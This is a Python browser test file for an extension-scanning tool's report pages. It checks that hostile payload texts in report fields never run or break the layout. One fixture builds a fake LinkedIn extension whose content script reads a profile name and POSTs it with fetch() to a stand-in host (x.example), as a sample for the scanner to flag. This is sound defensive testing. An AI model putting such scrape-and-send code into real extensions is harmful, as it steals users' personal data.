"""Every hostile text in every field of a result, in Chromium: nothing runs, nothing is asked for, nothing breaks."""

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import pytest
from samples.packing import deterministic_zip

from skimtrace.batch.one import scan_one
from skimtrace.batch.settings import Settings
from skimtrace.bundle.discover import Input
from skimtrace.report.difference_page import Item, changes_page, diff_page
from skimtrace.report.index import index_page, row
from skimtrace.report.page import extension_page
from skimtrace.result import model as m
from skimtrace.result.build import TEXT, sealed
from skimtrace.result.diff import diff
from skimtrace.signatures.registry import load_signatures
from tests.report.browser import looking
from tests.report.browser.payloads import PAYLOADS, TEXTS
from tests.report.browser.watch import Watched
from tests.result import made
from tests.result.filled import filled as unsealed

pytestmark = pytest.mark.browser

Write = Callable[..., Path]
ALL: Final = {one.name: one.text for one in PAYLOADS} | {one.name: one.whole for one in TEXTS}
BREAKING: Final = {one.name for one in TEXTS} | {one.name for one in PAYLOADS[::12]}
"""The texts that are made to break a layout, and some of the others."""
PLAIN: Final = "plain words"
OURS: Final = re.compile(r"#[a-z0-9-]*|index\.html|since-last-scan\.html|page-\d+\.html")


def filled(text: str, **changes: Any) -> m.Result:
    """Return a result as a scan writes it: no lone surrogates, no endless strings.

    The text is cut before: else names that differ in their last character would be one when they are cut there.
    """
    return sealed(unsealed(text[: TEXT - 100], **changes))


def analysed(text: str) -> m.Result:
    return filled(text, flag=False, score=85)


def failed(text: str) -> m.Result:
    return filled(text, flag=True, error=text, verdict="review")


def versions(text: str) -> str:
    return diff_page(diff(made.result(), filled(text, flag=True)))


def scans(text: str) -> str:
    changed = diff(made.result(), filled(text, flag=True))
    items = [
        Item(kind="changed", name=text, input=text, verdict="scrapes-and-sends", note=text, diff=changed),
        Item(kind="gone", name=text, input=text, verdict="review", note=text, diff=None),
    ]
    return changes_page(text, text, items)


def index(text: str) -> str:
    rows = [row(filled(text, flag=flag), "page-1.html", [text]) for flag in (False, True)]
    return index_page([*rows, row(made.result(), "page-2.html")], text)


ALIKE: Final = {"failed", "scans"}
"""Pages made of the parts of others: some of the texts will do."""
FEWER: Final = {name: text for at, (name, text) in enumerate(ALL.items()) if name in BREAKING or at % 4 == 0}
PAGES: Final[dict[str, Callable[[str], str]]] = {
    "index": index,
    "analysed": lambda text: extension_page(analysed(text)),
    "failed": lambda text: extension_page(failed(text)),
    "versions": versions,
    "scans": scans,
}


@pytest.mark.parametrize("kind", PAGES)
def test_no_text_gets_out_of_its_place(kind: str, watched: Watched, write: Write) -> None:
    make = PAGES[kind]
    page = watched.open(write(make(PLAIN)))
    looking.open_all(page)
    ours, shown = looking.shape(page), looking.headings(page)
    for harmless in (
        "function f(a) { return `b${1}` + /c/ + 'd'; } // e",
        "\u4e00 \U0001f468",
    ):  # code, and wide letters
        ours |= shape_of(watched, write, make(harmless))
    assert not any(" on" in one or {"script", "src"} <= set(one.split()) for one in ours)
    wrong: dict[str, object] = {}
    for name, text in ALL.items() if kind not in ALIKE else FEWER.items():
        page = watched.open(write(make(text)))
        looking.open_all(page)
        found: dict[str, object] = {
            "new elements": looking.shape(page) - ours,
            "headings": differing(shown, looking.headings(page)),
            "links": [href for href in looking.links(page) if not OURS.fullmatch(href)],
            "events": watched.events.copy(),
        }
        if name in BREAKING:  # laying a page out anew takes longer than all else
            found["covered"] = looking.covered(page)
            found |= {f"sticks out at {width}": looking.sticks_out(page, width) for width in looking.WIDTHS}
        if told := {what: one for what, one in found.items() if one}:
            wrong[name] = told
        watched.events.clear()
    assert wrong == {}


def shape_of(watched: Watched, write: Write, page: str) -> set[str]:
    return looking.shape(watched.open(write(page)))


def uncounted(words: str) -> str:
    """Return a heading without its counts: of long texts that were cut, some become one."""
    return re.sub(r"\d+", "", words)


def differing(ours: list[tuple[str, str, bool]], theirs: list[tuple[str, str, bool]]) -> list[object]:
    """Return what differs in headings, but for the hostile text in them."""
    if len(ours) != len(theirs):
        return [f"{len(theirs)} headings in place of {len(ours)}"]
    return [
        (old, new)
        for old, new in zip(ours, theirs, strict=True)
        if (old[0], old[2]) != (new[0], new[2]) or (PLAIN not in old[1] and uncounted(old[1]) != uncounted(new[1]))
    ]


def hostile_package(folder: Path) -> Path:
    """Write an extension whose names, files, addresses, locales and code are payloads; nothing of it is ever run."""
    texts = [one.text for one in PAYLOADS if one.text.isprintable()]
    files = [re.sub(r"[/\\:]", "-", text)[:80] + ".js" for text in texts[:20]]
    manifest = {
        "manifest_version": 3,
        "name": texts[0],
        "version": "1",
        "description": texts[1],
        "default_locale": "en",
        "permissions": ["storage", *texts[:20]],
        "host_permissions": ["https://*.linkedin.com/*", *texts[20:40]],
        "content_security_policy": {"extension_pages": texts[2]},
        "content_scripts": [{"matches": ["https://*.linkedin.com/*"], "js": ["content.js", *files]}],
    }
    ends = [json.dumps(f"https://x.example/{text}") for text in texts]
    sends = "".join(f"fetch({end}, {{method: 'POST', body: name}});\n" for end in ends)
    reads = f"const name = document.querySelector('.pv-top-card h1').innerText; // {texts[3]}\n"
    package = {
        "manifest.json": json.dumps(manifest).encode(),
        "content.js": (reads + sends).encode(),
        **{name: f"const a = {json.dumps(text)};".encode() for name, text in zip(files, texts, strict=False)},
        "_locales/en/messages.json": json.dumps({"x": {"message": texts[4]}}).encode(),
    }
    path = folder / "hostile.zip"
    path.write_bytes(deterministic_zip(package))
    return path


def test_a_hostile_package_is_shown_and_nothing_of_it_runs(tmp_path: Path, watched: Watched, write: Write) -> None:
    result = scan_one(Input(hostile_package(tmp_path), PAYLOADS[5].text), Settings(load_signatures()))
    assert (result.error, result.verdict) == (None, "scrapes-and-sends")
    page = watched.open(write(extension_page(result)))
    for button in page.get_by_role("button", name="Source of").all()[:5]:
        button.click()
    looking.open_all(page)
    assert [href for href in looking.links(page) if not OURS.fullmatch(href)] == []
    assert [looking.sticks_out(page, width) for width in looking.WIDTHS] == [[], []]
    for choice in page.get_by_role("radio", name="False").all()[:1]:
        choice.check()
    page.get_by_role("button", name="Save decisions").click()
    assert "Not saved" in page.locator("#review-told").inner_text()
    page.get_by_role("radio", name="Not decided").first.check()  # else the page would not let us go
    index = watched.open(write(index_page([row(result, "page-1.html")]), "index.html"))
    for view in index.locator("#views button").all():
        view.click()
    index.locator("#q").fill(PAYLOADS[0].text)
    watched.settle()
